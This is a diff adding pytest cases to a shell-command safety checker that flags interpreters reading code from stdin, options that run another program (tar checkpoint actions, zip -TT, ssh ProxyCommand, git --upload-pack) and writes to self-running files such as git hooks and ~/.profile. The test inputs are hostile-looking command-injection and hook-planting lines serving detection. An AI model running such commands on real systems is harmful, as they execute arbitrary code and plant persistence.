@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from tools.shell.danger import never_covered, runs_model_code
+from tools.shell.danger import never_covered, runs_model_code, writes_beyond_program
 from tools.shell.parse import (
     MAX_LINE,
     ParsedLine,
@@ -23,6 +23,7 @@ from tools.shell.parse import (
     parse_line,
     prefix_covers,
     proposal_prefix,
+    reads_program_from_stdin,
 )
 
 HOME = Path.home()
@@ -436,7 +437,7 @@ def test_prefix_covers_rejects_broken_prefixes() -> None:
         ("python build.py --fast", "python build.py"),
         ("python -m pytest -x", "python -m pytest"),
         ("python -c 'print(1)'", "python -c 'print(1)'"),
-        ("node", "node"),
+        ("node app.js --port 3", "node app.js"),
         ("'[' -f x ']'", "'['"),
         ("./run.sh a b", "./run.sh"),
     ],
@@ -450,6 +451,169 @@ def test_proposal_prefix(line: str, prefix: str) -> None:
 def test_proposal_prefix_of_an_unknown_program_is_empty() -> None:
     command = parse_line("$CMD x").commands[0]
     assert proposal_prefix(command) == ""
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python3 <<'EOF'\nprint(2 + 2)\nEOF",
+        "python3 - <<'EOF'\nprint(2 + 2)\nEOF",
+        "python3 -u -W ignore",
+        "python3 -- -",
+        'python3 "$script"',
+        "node <<'EOF'\nconsole.log(4)\nEOF",
+        "node --inspect",
+        "nodejs -r ./hook.js -",
+        "ruby",
+        "perl -w -",
+        "perl -I lib",
+        "php",
+        "php -f -",
+        "lua -e 'x = 1' -",
+        "bash -s arg",
+        "sh -s",
+        "fish",
+        "pwsh -NoProfile -Command -",
+        "deno",
+        "deno run -",
+        "bun run -",
+        "/usr/bin/python3.12",
+    ],
+)
+def test_an_interpreter_reading_its_program_from_input_gets_no_proposal(line: str) -> None:
+    command = parse_line(line).commands[-1]
+    assert reads_program_from_stdin(command)
+    assert proposal_prefix(command) == ""
+
+
+@pytest.mark.parametrize(
+    ("line", "prefix"),
+    [
+        ("python3 build.py", "python3 build.py"),
+        ("python3 -u -W ignore build.py --fast", "python3 -u -W ignore build.py --fast"),
+        ("python3 -m pytest -x", "python3 -m pytest"),
+        ("python3 -Bc 'print(1)'", "python3 -Bc 'print(1)'"),
+        ("python3 -- build.py", "python3 -- build.py"),
+        ("node app.js", "node app.js"),
+        ("node -e 'console.log(1)'", "node -e 'console.log(1)'"),
+        ("perl -pe 's/a/b/' f", "perl -pe s/a/b/ f"),
+        ("php -f x.php", "php -f x.php"),
+        ("lua -e 'x = 1'", "lua -e 'x = 1'"),
+        ("bash build.sh", "bash build.sh"),
+        ("pwsh -Command 'Get-Date'", "pwsh -Command Get-Date"),
+        ("deno run main.ts", "deno run"),
+        ("awk 1 f", "awk 1"),
+    ],
+)
+def test_an_interpreter_given_its_program_keeps_its_proposal(line: str, prefix: str) -> None:
+    command = parse_line(line).commands[-1]
+    assert not reads_program_from_stdin(command)
+    assert proposal_prefix(command) == prefix
+    assert not reads_program_from_stdin(only("git status"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec='touch pwned'",
+        "tar --checkpoint-act=exec=sh -cf a.tar .",
+        "tar --to-command=sh -xf a.tar",
+        "tar --to-command sh -xf a.tar",
+        "tar -I 'sh -c x' -cf a.tar .",
+        "tar -cIzstd -f a.tar .",
+        "tar --use-compress-program=x -cf a.tar .",
+        "tar --use-compress-program x -cf a.tar .",
+        "tar xIf prog a.tar",
+        "tar --rsh-command=x -cf h:a.tar .",
+        "tar --info-script=x -cf a.tar .",
+        "tar -F x -cf a.tar .",
+        "tar --new-volume-script=x -cf a.tar .",
+        "zip -q ../n.zip notes.txt -T -TT 'touch pwned #'",
+        "zip -TTsh a.zip x",
+        "zip --unzip-command=sh a.zip x",
+        "zip --unzip-command sh a.zip x",
+        "sort --compress-program=sh f",
+        "sort --compress-program sh f",
+        "sort --compress=sh f",
+        "rg --pre ./x pattern",
+        "rg --pre=./x pattern",
+        "ssh -o ProxyCommand='touch x' host",
+        "ssh -oProxyCommand=x host",
+        "ssh -vo ProxyCommand=x host",
+        "ssh -F cfg host",
+        "ssh -Fcfg host",
+        "ssh -S sock host",
+        "scp -o ProxyCommand=x a h:b",
+        "scp -F cfg a h:b",
+        "scp -S prog a h:b",
+        "sftp -o ProxyCommand=x host",
+        "sftp -S prog host",
+        "rsync -e 'sh -c x' a h:b",
+        "rsync -avze ssh a h:b",
+        "rsync --rsh=x a h:b",
+        "rsync --rsh x a h:b",
+        "rsync --rsync-path=x a h:b",
+        "rsync --rsync-path x a h:b",
+        "less '+!touch x' f",
+        "less +10 f",
+        "more +/x f",
+        "man -P cat ls",
+        "man -Pcat ls",
+        "man --pager=cat ls",
+        "man -H ls",
+        "man -Hfirefox ls",
+        "git diff --ext-diff",
+        "git -C sub log -p --ext-diff",
+        "git diff --ext-d",
+        "git fetch --upload-pack='touch x; git-upload-pack' ../other",
+        "git rebase -x make main",
+        "git bisect run make",
+        "git submodule foreach 'rm x'",
+    ],
+)
+def test_options_that_run_another_program_are_a_problem(line: str) -> None:
+    parsed = parse_line(line)
+    assert any("run another program" in p for p in parsed.problems), parsed.problems
+    assert reasons(parsed)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "tar -cf a.tar --checkpoint=1 .",
+        "tar xzf a.tar",
+        "tar -xzf a.tar -C out",
+        "zip -r -T a.zip .",
+        "sort -u -o out.txt f",
+        "rg --pre-glob '*.pdf' pattern",
+        "ssh -p 22 -i key_o host ls",
+        "ssh -L8080:localhost:80 host",
+        "scp -P 22 a h:b",
+        "rsync -av --delete a/ b/",
+        "less -R f",
+        "man 3 printf",
+        "git diff --no-ext-diff",
+        "git rebase -i main",
+        "git cherry-pick -x abc",
+        "git submodule update --init",
+        "git bisect start",
+        "find . -name '*.py' -exec wc -l {} +",
+    ],
+)
+def test_ordinary_options_of_those_programs_are_no_problem(line: str) -> None:
+    assert parse_line(line).problems == ()
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["GIT_SEQUENCE_EDITOR", "GIT_SSH_VARIANT", "GIT_TRACE", "npm_config_git", "NPM_CONFIG_SHELL",
+     "GCONV_PATH", "GIT_CONFIG_KEY_0"],
+)  # fmt: skip
+def test_every_git_and_npm_variable_is_risky(name: str) -> None:
+    command = parse_line(f"{name}='touch x; true' git rebase -i HEAD~1").commands[0]
+    assert not prefix_covers("git rebase", command)
+    assert any(name in p for p in parse_line(f"export {name}=x; git status").problems)
+    assert prefix_covers("git rebase", parse_line("LANG=C git rebase -i HEAD~1").commands[0])
 
 
 # --------------------------------------------------------------------------------------
@@ -612,3 +776,123 @@ def test_risky_assignments_stay_with_the_command() -> None:
     command = parse_line("BASH_ENV=/tmp/x bash -c 'git status'").commands[0]
     assert command.assignments == ("BASH_ENV=/tmp/x",)
     assert not prefix_covers("git status", command)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ls > notes.txt",
+        "ls >> notes.txt",
+        "ls &> notes.txt",
+        "ls >| notes.txt",
+        "ls >& notes.txt",
+        "ls 2> err.txt",
+        'ls > "$f"',
+        "> notes.txt",
+        "cat > notes.txt <<'EOF'\nx\nEOF",
+        "find . -name notes.txt -delete",
+        "find . -fprint out.txt",
+        "find . -fprintf out.txt '%p'",
+        "find . -fls out.txt",
+        "git log --output=notes.txt",
+        "git log --output notes.txt",
+        "git format-patch --output-directory out",
+        "curl -o notes.txt https://x.example",
+        "curl -sSLo notes.txt https://x.example",
+        "curl -sSonotes.txt https://x.example",
+        "curl --output=notes.txt https://x.example",
+        "curl $opts https://x.example",
+        "wget -O notes.txt https://x.example",
+        "sort -uo notes.txt f",
+        "tar -xf a.tar -C elsewhere",
+        "sed -i s/a/b/ notes.txt",
+        "sed -ni p notes.txt",
+        "sed --in-place s/a/b/ notes.txt",
+        "perl -pi -e s/a/b/ notes.txt",
+    ],
+)
+def test_writes_beyond_program(line: str) -> None:
+    assert writes_beyond_program(parse_line(line).commands[-1])
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ls",
+        "ls -a 2>&1 < /dev/null",
+        "ls > /dev/null 2>&1",
+        "ls 2>/dev/null",
+        "ls &> /dev/null",
+        "echo hi >&2",
+        "echo hi > /dev/stderr",
+        "echo hi >> /dev/stdout",
+        "ls 2>&-",
+        "ls >&-",
+        "cat < in.txt",
+        "cat <<'EOF'\nx\nEOF",
+        "cat <<< x",
+        "cp a.txt b.txt",
+        "mv a b",
+        "tee out.txt",
+        "rm -rf build",
+        "find . -name '*.py'",
+        "git log --oneline",
+        "git diff --output-indicator-new=+",
+        "curl -s https://x.example",
+        'curl -s "$url"',
+        "wget -qO- https://x.example",
+        "sort -u f",
+        "sed -n p notes.txt",
+        "sed -e 's/i/j/' notes.txt",
+        "perl -pe 's/i/j/' notes.txt",
+    ],
+)
+def test_writes_nothing_beyond_program(line: str) -> None:
+    assert not writes_beyond_program(parse_line(line).commands[-1])
+
+
+def fake_autorun(path: str) -> str | None:
+    """A stand-in for tools.fs.autorun: git config and hooks, and ~/.profile."""
+    if "/.git/hooks/" in path or path.endswith("/.git/config"):
+        return "git runs it"
+    if path == str(HOME / ".profile"):
+        return "a shell start-up file"
+    return None
+
+
+@pytest.mark.parametrize(
+    ("line", "place"),
+    [
+        ("printf '[core]' >> .git/config", ".git/config"),
+        ("cat > .git/hooks/post-checkout <<'EOF'\n#!/bin/sh\nEOF", ".git/hooks/post-checkout"),
+        ("tee -a .git/config <<'EOF'\nx\nEOF", ".git/config"),
+        ("cp evil.sh .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+        ("mv x sub/../.git/config", "sub/../.git/config"),
+        ("ln -s ../evil .git/hooks/pre-push", ".git/hooks/pre-push"),
+        ("curl -sSo .git/hooks/pre-commit https://x.example", ".git/hooks/pre-commit"),
+        ("sed -i s/a/b/ .git/config", ".git/config"),
+        ("echo x >> ~/.profile", "~/.profile"),
+        ("bash -c 'echo x > .git/config'", ".git/config"),
+    ],
+)
+def test_writing_a_file_that_runs_by_itself_is_never_covered(line: str, place: str) -> None:
+    found = never_covered(
+        parse_line(line), protected=protected, cwd=Path("/work/project"), autorun=fake_autorun
+    )
+    assert any(r.startswith(f"it writes {place}, which runs by itself (") for r in found), found
+
+
+def test_autorun_is_asked_about_absolute_paths_and_reading_is_fine() -> None:
+    asked: list[str] = []
+
+    def autorun(path: str) -> str | None:
+        asked.append(path)
+        return fake_autorun(path)
+
+    cwd = Path("/work/project")
+    line = "cat .git/config > copy.txt && cp notes.txt backup/ && git status"
+    assert never_covered(parse_line(line), protected=protected, cwd=cwd, autorun=autorun) == []
+    assert asked and all(Path(p).is_absolute() for p in asked)
+    assert "/work/project/copy.txt" in asked
+    # without autorun the line is judged as before
+    assert reasons(parse_line("echo x >> .git/config")) == []
